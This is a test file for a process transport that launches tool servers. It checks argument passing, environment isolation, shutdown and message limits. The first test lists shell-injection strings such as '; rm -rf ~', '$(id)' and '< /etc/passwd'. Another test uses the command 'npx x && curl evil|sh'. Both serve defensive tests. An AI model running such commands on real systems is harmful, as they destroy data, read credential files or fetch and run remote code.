import { readFileSync } from 'node:fs'
import { setTimeout as wait } from 'node:timers/promises'
import * as z from 'zod'
import { expect, it } from 'vitest'
import type { ToolResult } from '../../shared/domain/toolResult'
import type { Row } from '../storage/database'
import { isAlive, startOf, type ProcessIdentity } from './processIdentity'
import { StdioTransport } from './stdioTransport'
import { define, failureOf, faulty, serverId, testPool } from '../connections/testing/poolFixture'

const identityOf = ({ pid, started }: Row): ProcessIdentity => ({ pid: Number(pid), started: String(started) })

const textOf = (result: ToolResult): string => (result.content[0]?.type === 'text' ? result.content[0].text : '')
const Words = z.array(z.string())

it('C01: hands every argument to the program byte for byte, whatever a shell would make of it', async () => {
  // prettier-ignore
  const hostile = [
      '; rm -rf ~', '`id`', '$(id)', '$HOME', '${PATH}', '%COMSPEC%', '%PATH%', '!x!', '^&', '&& id', '|| id', '| sh', '> /tmp/x', '< /etc/passwd',
      '*', '?', '[a-z]', '~', '~root', '{a,b}', '#', '!!', '\\', '\\\\', '\\n', '\n', '\r\n', '\t', '"', '""', "'", "''", '\'"\'', ' ', '  ', '',
      '-', '--', '--eval=1', '-rf', '@file', '(x)', ')', '<>', '=', 'a=b', '\u0001', '\u001b[31m', '\u202e', 'é', '漢字', '😀', '\ufeff', '\u2028',
      'C:\\Windows\\System32', '\\\\server\\share', '/../../etc', 'a'.repeat(5_000), '%', '%%', '^', '`',
  ]
  await using test = testPool([define('argv', faulty('good', ...hostile))])
  await test.pool.start(serverId('argv'))
  const argv = Words.parse(JSON.parse(textOf(await test.call('argv', 'argv'))))
  expect(argv).toEqual(['good', ...hostile])
})

it('C01: refuses a command with a NUL character', async () => {
  await using test = testPool([define('nul', faulty('good', 'a\0b'))])
  const error = await failureOf(test.pool.start(serverId('nul')))
  expect(error).toMatchObject({ code: 'INVALID_INPUT', reason: 'transport.nulInCommand' })
})

it('C01: takes a command with shell signs for the name of a program', async () => {
  await using test = testPool([define('shell', { kind: 'stdio', command: 'npx x && curl evil|sh', args: [], env: {} })])
  expect((await failureOf(test.pool.start(serverId('shell')))).code).toBe('COMMAND_NOT_FOUND')
})

it('C06: gives a server the safe variables and what was typed for it, and nothing else of the host', async () => {
  process.env['PARLEY_TEST_SECRET'] = 'canary'
  await using test = testPool([
    define('plain', faulty('good')),
    define('typed', {
      ...faulty('good'),
      kind: 'stdio',
      command: process.execPath,
      args: [...argsOf('good')],
      env: { KEY: { secret: 'k' }, B: '1' },
    }),
  ])
  const keysOf = async (name: string): Promise<string[]> => {
    await test.pool.start(serverId(name))
    return Object.keys(z.record(z.string(), z.string()).parse(JSON.parse(textOf(await test.call(name, 'env')))))
  }
  const safe = ['HOME', 'LOGNAME', 'PATH', 'SHELL', 'TERM', 'USER']
  const plain = await keysOf('plain')
  const typed = await keysOf('typed')
  delete process.env['PARLEY_TEST_SECRET']
  expect({ plain: plain.filter((key) => !safe.includes(key)), typed: typed.filter((key) => !safe.includes(key)).toSorted() }).toEqual({
    plain: [],
    typed: ['B', 'KEY'],
  })
})

it.runIf(process.platform === 'linux')('C07: gives a server its three pipes and no other descriptor of the host', async () => {
  await using test = testPool([define('fds', faulty('good'))])
  await test.pool.start(serverId('fds'))
  const open = z.array(z.tuple([z.string(), z.string()])).parse(JSON.parse(textOf(await test.call('fds', 'descriptors'))))
  const foreign = open.filter(([fd, target]) => Number(fd) > 2 && /parley|\.db|socket:/.test(target))
  expect(foreign).toEqual([])
})

it('C08, ST-11: ends a server that ignores stdin and SIGTERM, and its helpers also where they left its group', async () => {
  const open = (mode: string) =>
    new StdioTransport({
      command: process.execPath,
      args: argsOf(mode),
      env: {},
      messageBytes: 1_000,
      outputBytes: 1_000,
      patience: { flushMs: 200, termMs: 200 },
      onSpawn: () => () => undefined,
    })
  const transports = ['stubborn', 'helper', 'helper-away'].map(open)
  await Promise.all(transports.map((transport) => transport.start()))
  const helpers = await Promise.all(transports.slice(1).map(helperOf))
  const processes = [...transports.map((transport) => transport.pid ?? 0), ...helpers].map((pid) => ({ pid, started: startOf(pid) ?? '' }))
  const before = processes.map(isAlive)
  await Promise.all(transports.map((transport) => transport.close()))
  await until(() => !processes.some(isAlive))
  expect(before).toEqual([true, true, true, true, true])
})

it('ST-11: closes every server in under five seconds', async () => {
  const test = testPool([define('stubborn', faulty('stubborn')), define('helper', faulty('helper')), define('good', faulty('good'))])
  await Promise.all(['stubborn', 'helper', 'good'].map((name) => test.pool.start(serverId(name))))
  const children = test.database.all('SELECT pid, started FROM child').map(identityOf)
  const startedAt = performance.now()
  await test.pool[Symbol.asyncDispose]()
  const took = performance.now() - startedAt
  const left = test.database.all('SELECT * FROM child')
  await test[Symbol.asyncDispose]()
  expect({ had: children.length, alive: children.filter(isAlive), left, inTime: took < 5_000 }).toEqual({
    had: 3,
    alive: [],
    left: [],
    inTime: true,
  })
})

it('C08: ends a call when the process ends, even while a helper holds its pipe', async () => {
  await using test = testPool([define('holds', faulty('helper-away'))])
  await test.pool.start(serverId('holds'))
  const error = await failureOf(test.call('holds', 'crash'))
  const helper = Number(/helper (\d+)/.exec(test.pool.output(serverId('holds')).text)?.[1])
  const stillHolds = process.kill(helper, 'SIGKILL')
  expect({ code: error.code, stillHolds }).toEqual({ code: 'SERVER_EXITED', stillHolds: true })
})

it('ends a server that has closed its stdout, since it can answer nothing any more', async () => {
  await using test = testPool([define('mute', faulty('good'))])
  await test.pool.start(serverId('mute'))
  expect((await failureOf(test.call('mute', 'mute'))).code).toBe('SERVER_EXITED')
})

it('C11: skips noise on stdout, counts it as output, and goes on', async () => {
  await using test = testPool([define('garbage', faulty('garbage'))])
  await test.pool.start(serverId('garbage'))
  const result = await test.call('garbage', 'echo', { rune: 'é😀' })
  expect({ text: textOf(result), shown: test.pool.output(serverId('garbage')).text.includes('Starting server v1.2') }).toEqual({
    text: '{"rune":"é😀"}',
    shown: true,
  })
})

it('C11: loses a message over the limit, fails the calls in flight with the reason, and keeps the connection', async () => {
  await using test = testPool([define('huge', faulty('good'))], { limits: { messageBytes: 1_000_000 } })
  const { connectionId } = await test.pool.start(serverId('huge')).then(() => test.until('huge', 'ready'))
  const error = await failureOf(test.call('huge', 'huge', { bytes: 1_000_001 }))
  const fits = textOf(await test.call('huge', 'huge', { bytes: 999_000 })).length
  expect({ code: error.code, fits, same: (await test.until('huge', 'ready')).connectionId === connectionId }).toEqual({
    code: 'MESSAGE_TOO_LARGE',
    fits: 999_000,
    same: true,
  })
})

it('reads a message of 50 MB in time that grows with its size, where the limit allows it', async () => {
  await using test = testPool([define('huge', faulty('good'))], { limits: { messageBytes: 64_000_000 } })
  await test.pool.start(serverId('huge'))
  const before = process.threadCpuUsage()
  const result = await test.call('huge', 'huge', { bytes: 50_000_000 })
  const { user, system } = process.threadCpuUsage(before)
  // CPU time of this thread only, because the machine may be busy with other work. In microseconds.
  expect({ bytes: textOf(result).length, littleWork: user + system < 8_000_000 }).toEqual({ bytes: 50_000_000, littleWork: true })
})

it('greets a server that ends at an unknown first request once more, without the probe', async () => {
  await using test = testPool([define('touchy', faulty('exit-at-probe'))])
  await test.pool.start(serverId('touchy'))
  const first = await test.until('touchy', 'ready')
  await test.pool.restart(serverId('touchy'))
  expect({ era: first.era, again: (await test.until('touchy', 'ready')).era }).toEqual({ era: '2025', again: '2025' })
})

it('takes a server that is silent at the probe for an older one, and does not probe it again', async () => {
  await using test = testPool([define('silent', faulty('silent-at-probe'))], { limits: { connectMs: 1_500 } })
  await test.pool.start(serverId('silent'))
  await test.pool.restart(serverId('silent'))
  const again = await test.until('silent', 'ready')
  const { records } = await test.traffic.ofServer(serverId('silent'), { limit: 100 })
  const probes = records.filter(({ json }) => json.includes('server/discover'))
  expect({ era: again.era, probes: probes.length }).toEqual({ era: '2025', probes: 1 })
})

it('C10, ST-03: stands a flood on stderr, and keeps answering', async () => {
  await using test = testPool([define('flood', faulty('stderr-flood'))], { limits: { stderrBytesKept: 100_000 } })
  await test.pool.start(serverId('flood'))
  const answers = await Promise.all([1, 2, 3].map(() => test.call('flood', 'echo')))
  await until(() => test.pool.output(serverId('flood')).dropped > 10_000_000)
  expect({ answers: answers.length, shown: test.pool.output(serverId('flood')).text.length <= 65_536 }).toEqual({ answers: 3, shown: true })
})

it('says that a server never answered, and leaves no process behind', async () => {
  await using test = testPool([define('never', faulty('never'))], { limits: { connectMs: 600 } })
  const started = failureOf(test.pool.start(serverId('never')))
  const children = () => test.database.all('SELECT pid, started FROM child').map(identityOf)
  await until(() => children().length > 0)
  const [child] = children()
  const error = await started
  expect({ code: error.code, had: child !== undefined, left: child && isAlive(child) }).toEqual({
    code: 'TIMED_OUT',
    had: true,
    left: false,
  })
})

it('stops a server that is still starting at once', async () => {
  await using test = testPool([define('never', faulty('never'))])
  const started = failureOf(test.pool.start(serverId('never')))
  await until(() => test.database.all('SELECT * FROM child').length > 0)
  await test.pool.stop(serverId('never'))
  expect({ code: (await started).code, state: test.pool.states()[serverId('never')] }).toEqual({
    code: 'INTERRUPTED',
    state: { phase: 'stopped', why: 'byUser' },
  })
})

it('names a working folder that does not exist, instead of calling the command missing', async () => {
  await using test = testPool([define('folder', { kind: 'stdio', command: process.execPath, args: [], env: {}, cwd: '/no/such/folder' })])
  const error = await failureOf(test.pool.start(serverId('folder')))
  expect(error).toMatchObject({
    code: 'INVALID_INPUT',
    reason: 'transport.noFolder',
    params: { folder: '/no/such/folder' },
  })
})

it('says that no protocol version fits', async () => {
  await using test = testPool([define('old', faulty('old-version'))])
  expect((await failureOf(test.pool.start(serverId('old')))).code).toBe('PROTOCOL_ERROR')
})

/** Checks every few milliseconds. The test's own timeout ends the wait. */
async function until(happened: () => boolean): Promise<void> {
  while (!happened()) await wait(5)
}

async function helperOf(transport: StdioTransport): Promise<number> {
  const found = (): number => Number(/helper (\d+)/.exec(transport.output.read(1_000).text)?.[1] ?? 0)
  await until(() => found() > 0)
  return found()
}

function argsOf(mode: string): readonly string[] {
  const launch = faulty(mode)
  return launch.kind === 'stdio' ? launch.args : []
}

it.runIf(process.platform === 'linux')('makes each server the leader of its own process group', async () => {
  await using test = testPool([define('leader', faulty('good'))])
  await test.pool.start(serverId('leader'))
  const pid = Number(textOf(await test.call('leader', 'pid')))
  const group = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.split(' ')[2]
  expect(Number(group)).toBe(pid)
})
